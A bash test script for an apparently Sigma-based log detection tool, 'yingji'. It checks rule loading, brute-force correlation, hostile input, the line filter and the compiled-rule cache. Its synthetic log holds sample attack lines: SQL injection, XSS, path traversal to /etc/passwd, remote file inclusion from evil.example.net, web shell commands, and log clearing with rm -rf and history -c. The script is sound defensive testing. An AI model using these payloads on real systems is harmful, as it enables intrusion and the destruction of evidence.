#!/usr/bin/env bash
# `yingji detect` and `yingji rules check` with the default rules (rules/):
# every attack kind alerts with the right rule, level and line; the SSH
# brute-force correlation fires once for a burst and not for 9 failures;
# normal lines give nothing; broken rules are refused with reasons while the
# others still run; a 1 MB line, binary garbage and invalid UTF-8 are read
# with a truncation mark and no crash; 10,000 generated rules load.
. "$(dirname "$0")/lib.sh"

Y=$YINGJI_BIN/yingji
RULES=$YINGJI_SRC/rules
# Compiled rules are kept here (not in root's home) for this test.
export YINGJI_CACHE="$T/cache"
[ -x "$Y" ] || fail "$Y is not an executable"
[ -d "$RULES" ] || fail "$RULES is missing"
python3 -c 'import yaml' 2>/dev/null || fail "python3-yaml is needed to read the rules' ids"

# --- usage --------------------------------------------------------------------
"$Y" detect --help | grep -q 'Usage: yingji detect' || fail "detect --help (English)"
YINGJI_LANG=zh "$Y" detect --help | grep -q '用法: yingji detect' || fail "detect --help (Chinese)"
"$Y" rules --help | grep -q 'Usage: yingji rules check' || fail "rules --help"
"$Y" --help | grep -q 'detect' || fail "detect missing from yingji --help"
"$Y" detect /dev/null >/dev/null 2>&1; [ $? -eq 2 ] || fail "detect without --rules should exit 2"
"$Y" detect --rules "$RULES" >/dev/null 2>&1; [ $? -eq 2 ] || fail "detect without a file should exit 2"
"$Y" detect --rules "$T/nope" /dev/null >/dev/null 2>&1; [ $? -eq 2 ] || fail "unreadable rules dir should exit 2"
"$Y" detect --rules "$RULES" "$T/nope.log" >/dev/null 2>&1; [ $? -eq 2 ] || fail "unreadable log file should exit 2"
"$Y" detect --rules "$RULES" --format xml /dev/null >/dev/null 2>&1; [ $? -eq 2 ] || fail "bad --format should exit 2"
"$Y" rules check "$T/nope" >/dev/null 2>&1; [ $? -eq 2 ] || fail "rules check of a missing dir should exit 2"

# --- the default rules load, none refused ---------------------------------------
"$Y" rules check "$RULES" >"$T/check.txt" 2>&1 || fail "rules check rules: exit $?: $(cat "$T/check.txt")"
ndocs=$(python3 - "$RULES" <<'PY'
import os, sys, yaml
n = 0
for d, _, fs in os.walk(sys.argv[1]):
    for f in fs:
        if f.endswith((".yml", ".yaml")):
            n += sum(1 for doc in yaml.safe_load_all(open(os.path.join(d, f))) if doc)
print(n)
PY
)
grep -q "^loaded: $ndocs rules .*; 0 refused; in use after compiling: $ndocs " "$T/check.txt" ||
	fail "rules check: expected $ndocs rules loaded, none refused: $(cat "$T/check.txt")"
grep -q '^refused\|^not compiled' "$T/check.txt" && fail "default rules refused: $(cat "$T/check.txt")"

# --- a log with every kind of attack, and normal lines ---------------------------
# Each line that must alert is tagged here with the rule file it must fire;
# the tag is cut off before the log is written.
python3 - "$T/attacks.log" "$T/expect.txt" <<'PY'
import sys
lines, expect = [], []
def add(line, rule=None):
    lines.append(line)
    if rule:
        expect.append(f"{len(lines)} {rule}")
def ssh(sec, msg):
    return f"Nov 22 10:{sec // 60:02d}:{sec % 60:02d} web-1 sshd[{4000 + sec}]: {msg}"
def sys_(sec, prog, msg):
    return f"Nov 22 11:{sec // 60:02d}:{sec % 60:02d} web-1 {prog}: {msg}"
def web(ip, target, ua="Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", status=200):
    return f'{ip} - - [22/Nov/2026:12:00:00 +0800] "GET {target} HTTP/1.1" {status} 512 "-" "{ua}"'

# normal sshd
add(ssh(0, "Accepted publickey for deploy from 10.0.0.5 port 50122 ssh2: ED25519 SHA256:abc"))
add(ssh(0, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
add(ssh(1, "Failed password for alice from 10.0.0.7 port 50200 ssh2"))
add(ssh(2, "Accepted password for alice from 10.0.0.7 port 50201 ssh2"))
add(ssh(3, "Invalid user test from 198.51.100.99 port 40000"))
# 9 failures from one address in 9 s: below the threshold
for i in range(9):
    add(ssh(10 + i, f"Failed password for root from 203.0.113.20 port {41000 + i} ssh2"))
# a burst: 15 failures in 15 s (fires once, at the 10th)
for i in range(15):
    add(ssh(30 + i, f"Failed password for root from 203.0.113.10 port {42000 + i} ssh2"))
    if i == 9:
        burst_line = len(lines)
# spraying: 6 users in a minute, 10 s apart
for i, u in enumerate(["admin", "oracle", "guest", "ubuntu", "postgres", "test"]):
    add(ssh(120 + 10 * i, f"Failed password for invalid user {u} from 203.0.113.30 port {43000 + i} ssh2"))
    if i == 4:
        spray_line = len(lines)
# sudo
add(sys_(0, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update"))
add(sys_(1, "sudo", "   alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ls"), "linux/sudo_abuse.yml#0")
add(sys_(2, "sudo", "     bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash"), "linux/sudo_abuse.yml#1")
add(sys_(3, "sudo", "www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/usr/bin/id"), "linux/sudo_abuse.yml#2")
add(sys_(4, "sudo", "     bob : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/auth.log"), "linux/log_clearing.yml#0")
add(sys_(5, "bash[3100]", "HISTORY: PID=3100 UID=0 history -c"), "linux/log_clearing.yml#0")
# accounts
add(sys_(6, "useradd[2001]", "new user: name=svc, UID=1001, GID=1001, home=/home/svc, shell=/bin/bash, from=/dev/pts/0"))
add(sys_(7, "useradd[2002]", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0"), "linux/new_privileged_user.yml#0")
add(sys_(8, "usermod[2003]", "add 'mallory' to group 'sudo'"), "linux/new_privileged_user.yml#0")
add(sys_(9, "usermod[2004]", "add 'carol' to group 'docker'"))
add(sys_(10, "CRON[2100]", "(root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)"))
add(sys_(11, "sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail -n 50 /var/log/syslog"))
# web: normal, including look-alikes
for t in ["/", "/index.html", "/search?q=select+winter+shoes&page=2", "/login?next=%2Faccount%2Forders",
          "/oauth/callback?code=abc&redirect_uri=https://shop.example.cn/cb", "/download?file=manual.pdf",
          "/static/js/app.js?v=3", "/product.php?id=42", "/blog/2026/11/union-of-states.html",
          "/api/v1/items/7?sort=price", "/elfinder/php/connector.minimal.php?cmd=open&target=l1_Lw",
          "/viewer.html?doc=report-2026.pdf", "/share?url=https%3A%2F%2Fshop.example.cn%2Fp%2F7"]:
    add(web("36.110.1.2", t))
add(web("36.110.1.3", "/robots.txt", ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"))
# web: attacks
add(web("45.1.1.1", "/product.php?id=1%27%20or%201=1--"), "web/sql_injection.yml#0")
add(web("45.1.1.2", "/news?id=5+union+select+1,2,version()--"), "web/sql_injection.yml#0")
add(web("45.1.1.3", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"), "web/xss.yml#0")
add(web("45.1.1.4", "/download?file=../../../../etc/passwd"), "web/path_traversal.yml#0")
add(web("45.1.1.5", "/index.php?page=http://evil.example.net/shell.txt?"), "web/remote_file_inclusion.yml#0")
add(web("45.1.1.6", "/uploads/shell.php", status=404), "web/webshell_access.yml#0")
add(web("45.1.1.7", "/upload/avatar.php?cmd=whoami"), "web/webshell_access.yml#0")
add(web("45.1.1.8", "/", ua="sqlmap/1.7.11#stable (https://sqlmap.org)"), "web/scanner_user_agent.yml#0")
add(web("45.1.1.9", "/", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007654)"), "web/scanner_user_agent.yml#0")
open(sys.argv[1], "w").write("\n".join(lines) + "\n")
expect.append(f"{burst_line} linux/ssh_bruteforce.yml#1 203.0.113.10")
expect.append(f"{spray_line} linux/ssh_password_spraying.yml#1 203.0.113.30")
open(sys.argv[2], "w").write("\n".join(expect) + "\n")
PY
[ -s "$T/attacks.log" ] || fail "could not write the test log"

"$Y" detect --rules "$RULES" --json "$T/attacks.log" >"$T/alerts.jsonl" 2>"$T/alerts.err" ||
	fail "detect exited with $?: $(cat "$T/alerts.err")"
python3 - "$RULES" "$T/expect.txt" "$T/alerts.jsonl" <<'PY' || fail "alerts differ from the expected ones (see above); stderr: $(cat "$T/alerts.err")"
import json, sys, yaml
rules, expect_path, alerts_path = sys.argv[1:]
def rule(ref):
    f, i = ref.split("#")
    docs = [d for d in yaml.safe_load_all(open(f"{rules}/{f}")) if d]
    return docs[int(i)]
# "continued" alerts are the counted rest of an attack already alerted.
alerts = [a for a in map(json.loads, open(alerts_path)) if not a.get("continued")]
for a in alerts:
    for k in ("rule_id", "title", "level", "line", "file", "matched", "count", "correlation", "group"):
        assert k in a, (k, a)
ok = True
plain_expected = set()
for l in open(expect_path):
    parts = l.split()
    line, ref = int(parts[0]), parts[1]
    r = rule(ref)
    if len(parts) == 3:      # a correlation, for one address
        ip = parts[2]
        got = [a for a in alerts if a["rule_id"] == r["id"] and ip in (a["group"] or "")]
        if len(got) != 1 or got[0]["line"] != line or got[0]["level"] != r["level"] or not got[0]["correlation"]:
            print(f"expected one {r['title']} for {ip} at line {line}, level {r['level']}; got {got}")
            ok = False
        continue
    plain_expected.add((line, r["id"]))
    got = [a for a in alerts if a["rule_id"] == r["id"] and a["line"] == line]
    if len(got) != 1 or got[0]["level"] != r["level"] or got[0]["title"] != r["title"] or got[0]["correlation"]:
        print(f"expected {r['title']} ({r['level']}) at line {line}; got {got}")
        ok = False
# nothing else: normal lines and the 9 failures alert nothing
for a in alerts:
    if a["correlation"]:
        if not any(ip in (a["group"] or "") for ip in ("203.0.113.10", "203.0.113.30")):
            print("unexpected correlation alert:", a)
            ok = False
    elif (a["line"], a["rule_id"]) not in plain_expected:
        print("unexpected alert:", a)
        ok = False
# One attack, one alert: the burst's failures after the tenth come once, at the
# end, as the counted rest of that alert.
rest = [a for a in map(json.loads, open(alerts_path)) if a.get("continued") and "203.0.113.10" in (a["group"] or "")]
if len(rest) != 1 or rest[0]["count"] != 5:
    print("expected the brute force's rest (5 more failures) once, continued; got", rest)
    ok = False
sys.exit(0 if ok else 1)
PY
# the summary goes to stderr with --json
grep -q '^Summary: [0-9]* lines, 1 files' "$T/alerts.err" || fail "no summary on stderr: $(cat "$T/alerts.err")"
# the human form: Chinese by default, the rule title and file:line
YINGJI_LANG=zh "$Y" detect --rules "$RULES" "$T/attacks.log" >"$T/human.txt" 2>&1 || fail "detect (human) exited with $?"
grep -q "SQL injection attempt in a request .*attacks.log:" "$T/human.txt" || fail "human output lacks the alert: $(head "$T/human.txt")"
grep -q '^汇总: ' "$T/human.txt" || fail "human output lacks the summary"
# standard input
"$Y" detect --rules "$RULES" --json - <"$T/attacks.log" >"$T/stdin.jsonl" 2>/dev/null || fail "detect - exited with $?"
[ "$(wc -l <"$T/stdin.jsonl")" = "$(wc -l <"$T/alerts.jsonl")" ] || fail "stdin gives other alerts than the file"

# --- broken rules are refused with reasons, the good ones still run ---------------
mkdir -p "$T/mixed"
cp -r "$RULES"/. "$T/mixed/"
printf 'title: broken yaml\nid: 1\ndetection: [unclosed\n  condition: x: y\n' >"$T/mixed/bad_yaml.yml"
cat >"$T/mixed/bad_modifier.yml" <<'EOF'
title: Unknown modifier
id: 6f0e7b52-3f7a-4c39-9d0e-0a0b1c2d3e4f
logsource:
    category: webserver
detection:
    selection:
        cs-uri|containz: evil
    condition: selection
level: high
EOF
cat >"$T/mixed/bad_condition.yml" <<'EOF'
title: Condition naming nothing
id: 7a1f8c63-4e8b-4d4a-8e1f-1b2c3d4e5f60
logsource:
    category: webserver
detection:
    selection:
        cs-uri|contains: evil
    condition: selection and nothere
level: high
EOF
"$Y" rules check "$T/mixed" >"$T/mixed.txt" 2>&1 || fail "rules check of a dir with bad rules should exit 0, got $?"
for f in bad_yaml bad_modifier bad_condition; do
	grep -q "^refused: $T/mixed/$f.yml:[0-9]*: ..*" "$T/mixed.txt" || fail "$f.yml not reported with a reason: $(cat "$T/mixed.txt")"
done
grep -qi 'containz' "$T/mixed.txt" || fail "the unknown modifier is not named: $(cat "$T/mixed.txt")"
grep -qi 'nothere' "$T/mixed.txt" || fail "the missing selection is not named: $(cat "$T/mixed.txt")"
grep -q "^loaded: $ndocs rules .*; 3 refused" "$T/mixed.txt" || fail "good rules not all loaded beside the bad: $(tail -n 1 "$T/mixed.txt")"
"$Y" detect --rules "$T/mixed" --json "$T/attacks.log" >"$T/mixed.jsonl" 2>"$T/mixed.err" || fail "detect with bad rules exited with $?"
[ "$(grep -c '^yingji: rule refused: ' "$T/mixed.err")" = 3 ] || fail "refused rules not said on stderr: $(cat "$T/mixed.err")"
cmp -s <(sort "$T/mixed.jsonl" | sed 's/"file":"[^"]*"//') <(sort "$T/alerts.jsonl" | sed 's/"file":"[^"]*"//') ||
	fail "the good rules give other alerts beside bad ones"

# --- hostile input: a 1 MB line, binary garbage, invalid UTF-8 ------------------
python3 - "$T/hostile.log" <<'PY'
import os, sys
with open(sys.argv[1], "wb") as f:
    f.write(b"Nov 22 11:00:00 web-1 bash[1]: root: history -c " + b"A" * (1024 * 1024) + b"\n")
    f.write(os.urandom(4096).replace(b"\n", b"\x00") + b"\n")
    f.write(b"\xff\xfe\xc3\x28\xe2\x28\xa1 Nov 22 11:00:01 \xf0\x28\x8c\xbc sshd[1]: Failed password for \xc3\x28 from 1.2.3.4\n")
    f.write(b'45.1.1.1 - - [22/Nov/2026:12:00:00 +0800] "GET /x?id=1%27%20or%201=1--\xff\xfe HTTP/1.1" 200 1 "-" "Mozilla \xc3\x28"\n')
    f.write(b"\x00\x00\x00\n\r\n\n")
    f.write(b"no newline at the end " + b"\x80" * 70000)
PY
"$Y" detect --rules "$RULES" --json "$T/hostile.log" >"$T/hostile.jsonl" 2>"$T/hostile.err" ||
	fail "detect on hostile input exited with $?: $(tail -n 5 "$T/hostile.err")"
grep -q 'hostile.log:1: line longer than 64 KiB, cut' "$T/hostile.err" || fail "no truncation note for line 1: $(cat "$T/hostile.err")"
grep -q 'hostile.log:8: line longer than 64 KiB, cut' "$T/hostile.err" || fail "no truncation note for the last line: $(cat "$T/hostile.err")"
grep -q '^lines cut (longer than 64 KiB): 2$' "$T/hostile.err" || fail "summary lacks the cut lines: $(cat "$T/hostile.err")"
grep -q '^Summary: 8 lines' "$T/hostile.err" || fail "expected 8 lines read: $(cat "$T/hostile.err")"
python3 - "$T/hostile.jsonl" <<'PY' || fail "hostile input: bad alerts: $(cat "$T/hostile.jsonl")"
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1])]
cut = [a for a in alerts if a["line"] == 1]
assert cut and all(a["truncated"] is True for a in cut), alerts
assert any(a["line"] == 4 and not a["truncated"] for a in alerts), alerts
PY

# --- 10,000 generated rules load ------------------------------------------------
python3 - "$T/many" <<'PY'
import os, sys, uuid
d = sys.argv[1]
for f in range(100):
    os.makedirs(f"{d}/d{f % 10}", exist_ok=True)
    docs = []
    for i in range(100):
        n = f * 100 + i
        if n % 3 == 0:
            det = f"    selection:\n        cs-uri-query|contains: 'gen{n}probe'\n    condition: selection\n"
            ls = "    category: webserver\n"
        elif n % 3 == 1:
            det = f"    selection:\n        cs-user-agent|startswith:\n            - 'GenTool{n}/'\n            - 'gentool-{n}'\n    condition: selection\n"
            ls = "    category: webserver\n"
        else:
            det = f"    keywords:\n        - 'generated marker {n}'\n    condition: keywords\n"
            ls = "    product: linux\n"
        docs.append(f"title: Generated rule {n}\nid: {uuid.uuid5(uuid.NAMESPACE_URL, str(n))}\n"
                    f"logsource:\n{ls}detection:\n{det}level: low\n")
    open(f"{d}/d{f % 10}/gen{f}.yml", "w").write("---\n".join(docs))
PY
"$Y" rules check "$T/many" >"$T/many.txt" 2>&1 || fail "rules check of 10,000 rules exited with $?: $(tail -n 3 "$T/many.txt")"
grep -q '^loaded: 10000 rules (plain 10000, correlation 0); 0 refused; in use after compiling: 10000 ' "$T/many.txt" ||
	fail "10,000 rules: $(tail -n 3 "$T/many.txt")"
printf '%s\n' '1.1.1.1 - - [22/Nov/2026:12:00:00 +0800] "GET /a?x=gen9999probe HTTP/1.1" 200 1 "-" "GenTool5998/1.0"' \
	'Nov 22 11:00:00 web-1 kernel: generated marker 4001' >"$T/many.log"
"$Y" detect --rules "$T/many" --json "$T/many.log" >"$T/many.jsonl" 2>/dev/null || fail "detect with 10,000 rules exited with $?"
python3 - "$T/many.jsonl" <<'PY' || fail "10,000 rules: wrong alerts: $(cat "$T/many.jsonl")"
import json, sys
got = sorted((a["line"], a["title"]) for a in map(json.loads, open(sys.argv[1])))
assert got == [(1, "Generated rule 5998"), (1, "Generated rule 9999"), (2, "Generated rule 4001")], got
PY

# --- third-party Sigma rules, when present: they load beside ours ----------------
SIGMA=/work/shared/sigma/rules
if [ -d "$SIGMA" ]; then
	"$Y" rules check "$RULES" "$SIGMA" >"$T/sigma.txt" 2>&1 || fail "rules check with $SIGMA exited with $?"
	"$Y" detect --rules "$RULES" --rules "$SIGMA" --json "$T/attacks.log" >"$T/sigma.jsonl" 2>"$T/sigma.err" ||
		fail "detect with $SIGMA exited with $?"
	python3 - "$T/alerts.jsonl" "$T/sigma.jsonl" <<'PY' || fail "our alerts are lost beside $SIGMA"
import json, sys
ours = {(a["line"], a["rule_id"]) for a in map(json.loads, open(sys.argv[1]))}
both = {(a["line"], a["rule_id"]) for a in map(json.loads, open(sys.argv[2]))}
assert ours <= both, ours - both
PY
fi
# --- the line filter: the same alerts as decoding every line ---------------------
# Lines the filter leaves out are never decoded; it must never leave out a
# line some rule would alert on. Compare with --no-filter on every log here,
# with our rules and (when present) the third-party ones.
# Lines of exactly 64 KiB (and one byte more) ending in CRLF: cut or not
# the same way on both paths.
python3 - "$T/crlf.log" <<'PY'
import sys
head = '203.0.113.99 - - [22/Nov/2026:12:00:00 +0800] "GET /item.php?id=1+union+select+1,2&pad='
tail = ' HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
with open(sys.argv[1], "wb") as f:
    for total in (65535, 65536, 65537):
        pad = total - len(head) - len(tail)
        f.write((head + "a" * pad + tail).encode() + b"\r\n")
PY
cat "$T/attacks.log" "$T/hostile.log" "$T/crlf.log" "$T/attacks.log" >"$T/mixed.log"
same_alerts() { # label, detect args...
	local label=$1
	shift
	"$Y" detect "$@" --json "$T/mixed.log" >"$T/f-on.jsonl" 2>"$T/f-on.err" || fail "$label: detect exited with $?"
	"$Y" detect --no-filter "$@" --json "$T/mixed.log" >"$T/f-off.jsonl" 2>"$T/f-off.err" ||
		fail "$label: detect --no-filter exited with $?"
	[ -s "$T/f-off.jsonl" ] || fail "$label: no alerts at all"
	cmp -s "$T/f-on.jsonl" "$T/f-off.jsonl" ||
		fail "$label: the line filter changed the alerts: $(diff "$T/f-on.jsonl" "$T/f-off.jsonl" | head -n 6)"
}
same_alerts "our rules" --rules "$RULES"
grep -q '^yingji: line filter on: [0-9]* literals' "$T/f-on.err" || fail "line filter not on: $(cat "$T/f-on.err")"
grep -q 'line filter off (--no-filter)' "$T/f-off.err" || fail "--no-filter not said"
if [ -d "$SIGMA" ]; then
	same_alerts "with $SIGMA" --rules "$RULES" --rules "$SIGMA"
	grep -q '^yingji: line filter on' "$T/f-on.err" || fail "line filter not on with $SIGMA: $(cat "$T/f-on.err")"
fi

# A value that only an unescape makes ("Evil\u0042ot"): the filter still
# lets that line through (its backslash), and only the lines that match alert.
mkdir -p "$T/jrules/one" "$T/jrules/two"
cat >"$T/jrules/one/evilbot.yml" <<'YML'
title: EvilBot agent in a JSON log
id: 0b7c1e55-0000-4000-8000-00000000e41b
logsource:
    definition: any JSON log
detection:
    selection:
        cs-user-agent|contains: evilbot
    condition: selection
level: high
YML
cat >"$T/jrules/two/notsel.yml" <<'YML'
title: Anything but GET (holds without a pattern)
id: 0b7c1e55-0000-4000-8000-00000000e41c
logsource:
    definition: any log
detection:
    selection:
        cs-method: GET
    condition: not selection
level: low
YML
printf '%s\n' '{"cs-user-agent":"EvilBot/1.0"}' '{"cs-user-agent":"Evil\u0042ot/2.0"}' \
	'{"cs-user-agent":"curl/8"}' '{"other":"evilbot"}' >"$T/j.log"
"$Y" detect --rules "$T/jrules/one" --json "$T/j.log" >"$T/j.jsonl" 2>"$T/j.err" || fail "JSON detect exited with $?"
grep -q '^yingji: line filter on' "$T/j.err" || fail "JSON rule: line filter not on: $(cat "$T/j.err")"
[ "$(python3 -c 'import json,sys; print(" ".join(str(json.loads(l)["line"]) for l in open(sys.argv[1])))' "$T/j.jsonl")" = "1 2" ] ||
	fail "JSON rule: expected alerts on lines 1 and 2 (the escaped one too): $(cat "$T/j.jsonl")"
# A rule that can hold without any pattern turns the filter off, and says which.
"$Y" detect --rules "$T/jrules" --json "$T/j.log" >"$T/j2.jsonl" 2>"$T/j2.err" || fail "detect with notsel exited with $?"
grep -q 'two/notsel.yml: 0b7c1e55-0000-4000-8000-00000000e41c: line filter off' "$T/j2.err" ||
	fail "the rule that turns the filter off is not named: $(cat "$T/j2.err")"
[ "$(grep -c e41c "$T/j2.jsonl")" = 4 ] || fail "'not selection' should alert on all 4 lines: $(cat "$T/j2.jsonl")"

# --- compiled rules are kept and reused; a damaged cache is only slower ---------
rm -rf "$T/cache"
"$Y" detect --rules "$RULES" --json "$T/attacks.log" >"$T/c1.jsonl" 2>"$T/c1.err" || fail "cold detect exited with $?"
n=$(sed -n 's/^yingji: Hyperscan databases \([0-9]*\), loaded from the cache 0$/\1/p' "$T/c1.err")
[ -n "$n" ] && [ "$n" -gt 1 ] || fail "cold run should compile everything: $(cat "$T/c1.err")"
[ "$(stat -c %a "$T/cache")" = 700 ] || fail "cache directory mode $(stat -c %a "$T/cache")"
"$Y" detect --rules "$RULES" --json "$T/attacks.log" >"$T/c2.jsonl" 2>"$T/c2.err" || fail "warm detect exited with $?"
grep -q "^yingji: Hyperscan databases $n, loaded from the cache $n\$" "$T/c2.err" || fail "warm run: $(cat "$T/c2.err")"
cmp -s "$T/c1.jsonl" "$T/c2.jsonl" || fail "alerts differ with the cache"
# damage every file: cut one, flip a byte in the others
first=1
for f in "$T/cache"/*.hsdb; do
	if [ $first = 1 ]; then truncate -s 20 "$f"; first=0; else printf '\377' | dd of="$f" bs=1 seek=100 conv=notrunc 2>/dev/null; fi
done
"$Y" detect --rules "$RULES" --json "$T/attacks.log" >"$T/c3.jsonl" 2>"$T/c3.err" || fail "detect with a damaged cache exited with $?"
grep -q "^yingji: Hyperscan databases $n, loaded from the cache 0\$" "$T/c3.err" || fail "damaged cache was used: $(cat "$T/c3.err")"
cmp -s "$T/c1.jsonl" "$T/c3.jsonl" || fail "alerts differ after a damaged cache"
"$Y" detect --rules "$RULES" --json "$T/attacks.log" >/dev/null 2>"$T/c4.err" || fail "detect after repair exited with $?"
grep -q "loaded from the cache $n\$" "$T/c4.err" || fail "the cache was not written again: $(cat "$T/c4.err")"
# a cache others may write to is refused (said), and the run goes on
chmod 777 "$T/cache"
"$Y" detect --rules "$RULES" --json "$T/attacks.log" >"$T/c5.jsonl" 2>"$T/c5.err" || fail "detect with an open cache exited with $?"
grep -q 'compiled rules are not kept' "$T/c5.err" || fail "a world-writable cache was not refused: $(cat "$T/c5.err")"
cmp -s "$T/c1.jsonl" "$T/c5.jsonl" || fail "alerts differ without the cache"
chmod 700 "$T/cache"
"$Y" detect --no-cache --rules "$RULES" --json "$T/attacks.log" >/dev/null 2>"$T/c6.err" || fail "--no-cache exited with $?"
grep -q "loaded from the cache 0\$" "$T/c6.err" || fail "--no-cache used the cache: $(cat "$T/c6.err")"

echo "PASS: $TEST_NAME"
